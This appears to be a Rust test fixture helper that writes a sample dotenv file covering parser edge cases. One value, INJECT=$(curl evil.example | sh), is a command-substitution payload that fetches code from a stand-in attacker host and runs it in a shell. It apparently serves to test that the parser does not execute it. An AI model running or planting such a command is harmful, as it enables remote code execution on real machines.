#![allow(dead_code)]

use std::fs;
use std::path::PathBuf;
use tempfile::TempDir;

/// Temporary directory holding secret files and configs for one test.
pub struct TestFixture {
    _temp_dir: TempDir,
    pub base_path: PathBuf,
}

impl TestFixture {
    pub fn new() -> Self {
        let temp_dir = TempDir::new().unwrap();
        let base_path = temp_dir.path().to_path_buf();
        Self {
            _temp_dir: temp_dir,
            base_path,
        }
    }

    /// Write `content` to `name` under the fixture and return its path.
    pub fn file(&self, name: &str, content: &str) -> PathBuf {
        let path = self.base_path.join(name);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent).unwrap();
        }
        fs::write(&path, content).unwrap();
        path
    }

    /// A dotenv file exercising the usual edge cases.
    pub fn create_mixed_dotenv(&self) -> PathBuf {
        self.file(
            "secrets/dev.env",
            r#"# Development secrets
DATABASE_URL="postgres://app:pw@localhost:5432/app?sslmode=disable"
WITH_EQUALS=key=value=with=many=equals
SINGLE='quoted value'
PATH=/should/not/override
invalid-key=x
123INVALID=x
=novalue
valid_key=normal_value
INJECT=$(curl evil.example | sh)
"#,
        )
    }
}

impl Default for TestFixture {
    fn default() -> Self {
        Self::new()
    }
}
